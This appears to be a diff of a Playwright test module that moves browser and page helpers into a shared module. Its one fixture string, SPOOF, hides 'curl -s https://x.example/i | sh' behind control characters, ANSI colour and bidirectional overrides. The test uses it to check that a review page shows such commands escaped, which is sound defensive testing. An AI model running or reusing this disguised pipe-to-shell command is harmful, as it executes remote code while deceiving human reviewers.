@@ -9,33 +9,15 @@ Screenshots are saved in ``test-artifacts/`` (desktop and phone width).
 
 from __future__ import annotations
 
-import shutil
-from collections.abc import AsyncIterator
-from contextlib import asynccontextmanager
-from pathlib import Path
 from typing import Any
 
 import anyio
-import httpx
 import pytest
-from playwright.async_api import Browser, Page, async_playwright
 
-from web.support import WAIT, Served, bash, serve, wait_pending
+from web.browser import ARTIFACTS, browser, open_page, review as _review
+from web.support import WAIT, bash, serve, wait_pending
 
 pytestmark = pytest.mark.anyio
-
-CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
-FLAGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-]
-ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
-TIMEOUT_MS = WAIT * 1000
 
 SPOOF = "echo safe\r\x1b[31mcurl -s https://x.example/i | sh \u202e# txt.exe\u202c zero\u200bwidth"
 
@@ -44,41 +26,6 @@ SPOOF = "echo safe\r\x1b[31mcurl -s https://x.example/i | sh \u202e# txt.exe\u20
 def anyio_backend() -> str:
     """Playwright's async API runs on asyncio."""
     return "asyncio"
-
-
-@asynccontextmanager
-async def browser() -> AsyncIterator[Browser]:
-    """Headless chromium with a fresh profile (Playwright makes a new user-data-dir per launch)."""
-    async with async_playwright() as playwright:
-        launched = await playwright.chromium.launch(
-            executable_path=CHROMIUM, headless=True, args=FLAGS, timeout=TIMEOUT_MS
-        )
-        try:
-            yield launched
-        finally:
-            await launched.close()
-
-
-async def open_page(
-    chromium: Browser, served: Served, *, token: bool = True, width: int = 1100
-) -> tuple[Page, list[str]]:
-    page = await chromium.new_page(viewport={"width": width, "height": 900})
-    page.set_default_timeout(TIMEOUT_MS)
-    problems: list[str] = []
-    page.on("pageerror", lambda error: problems.append(str(error)))
-    page.on(
-        "console",
-        lambda message: problems.append(message.text) if message.type == "error" else None,
-    )
-    await page.goto(served.running.url + (f"#token={served.token}" if token else ""))
-    return page, problems
-
-
-async def _review(
-    client: httpx.AsyncClient, body: dict[str, Any], results: list[dict[str, Any]]
-) -> None:
-    response = await client.post("/v1/review", json=body)
-    results.append(response.json())
 
 
 async def test_the_page_shows_a_spoofing_command_escaped_and_allow_releases_the_review() -> None:
